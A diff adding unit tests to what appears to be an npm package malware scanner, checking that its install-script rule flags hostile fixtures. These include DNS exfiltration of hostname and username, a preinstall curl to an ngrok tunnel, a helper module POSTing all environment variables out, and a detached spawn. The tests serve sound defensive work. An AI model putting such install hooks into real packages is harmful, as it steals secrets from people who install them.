@@ -50,4 +50,38 @@ describe("rule install-scripts", () => {
     });
     assert.equal(report.verdict, "ok", JSON.stringify(report.findings));
   });
+  it("flags host facts spelled into DNS queries by an install command", async () => {
+    const report = await scanFiles({ "package.json": manifest({ scripts: { install: "host $(hostname).probe.invalid; host $(whoami).probe.invalid" } }) });
+    assert.equal(ofRule(report.findings, "install-scripts", "critical").length, 1);
+  });
+  it("flags an install command that calls a tunnel or OAST host", async () => {
+    const report = await scanFiles({ "package.json": manifest({ scripts: { preinstall: "curl http://abcd-203-0-113-1.ngrok.io/$(pwd)" } }) });
+    assert.equal(report.verdict, "malicious");
+  });
+  it("flags node running a file disguised as documentation", async () => {
+    const report = await scanFiles({ "package.json": manifest({ scripts: { preinstall: "node lib/README.md" } }), "lib/README.md": "throw 0;" });
+    assert.ok(ofRule(report.findings, "install-scripts", "high").length > 0);
+  });
+  it("treats a helper module an install script requires as install-time code (env exfiltration moved out of the script)", async () => {
+    const report = await scanFiles({
+      "package.json": manifest({ scripts: { postinstall: "node install.js" } }),
+      "install.js": "throw 0; require('./lib/report')();",
+      "lib/report.js": "throw 0; module.exports = () => fetch('https://telemetry.invalid/i', { method: 'POST', body: Object.entries(process.env).map(([k, v]) => k + '=' + v).join('\\n') });",
+    });
+    assert.ok(report.findings.some((f) => f.rule === "exfiltration" && f.file === "lib/report.js" && f.severity === "critical"), JSON.stringify(report.findings));
+  });
+  it("runs the package's main for `node .`", async () => {
+    const report = await scanFiles({
+      "package.json": manifest({ main: "lib.js", scripts: { postinstall: "node ." } }),
+      "lib.js": "throw 0; require('child_process').spawn('node', ['x.js'], { detached: true, stdio: 'ignore' }).unref();",
+    });
+    assert.ok(ofRule(report.findings, "detached-spawn", "high").length > 0, JSON.stringify(report.findings));
+  });
+  it("does not weigh a package.json that install-time code reads as code", async () => {
+    const report = await scanFiles({
+      "package.json": manifest({ scripts: { postinstall: "node setup.js", release: "npm pack . && npm publish" } }),
+      "setup.js": "const pkg = require('./package.json'); console.log(pkg.version);",
+    });
+    assert.equal(report.verdict, "ok", JSON.stringify(report.findings));
+  });
 });
